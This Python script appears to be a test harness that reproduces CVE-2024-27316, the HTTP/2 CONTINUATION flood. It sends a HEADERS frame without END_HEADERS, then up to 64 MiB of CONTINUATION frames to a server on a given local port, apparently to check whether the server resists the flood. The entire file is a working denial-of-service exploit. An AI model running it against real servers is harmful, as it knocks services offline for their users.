"""CVE-2024-27316: one HEADERS frame without END_HEADERS followed by endless CONTINUATION frames."""
import sys
import time

from h2common import RawReader, connect, encoder, frame, report, request_block

port, total = int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 64 * 1024 * 1024
sock = connect(port)
reader = RawReader(sock)
reader.start()
conn = encoder()
started = time.time()
block = request_block(conn, 1, "127.0.0.1", "/echo/continuation")
sent = 0
try:
    sock.sendall(frame(0x1, 0x1, 1, block))  # HEADERS, END_STREAM, no END_HEADERS
    # Continuations carrying literal headers (never indexed), 16 KiB each, never ending the block.
    literal = b"\x10" + bytes([0x05]) + b"x-big" + b"\x7f\x81\x7f" + b"a" * 16000
    payload = literal[:16384]
    while sent < total and not reader.closed.is_set():
        sock.sendall(frame(0x9, 0, 1, payload))
        sent += len(payload)
except OSError:
    pass
report("continuation_flood", reader, sent, started, "bytes_sent=%d" % sent)
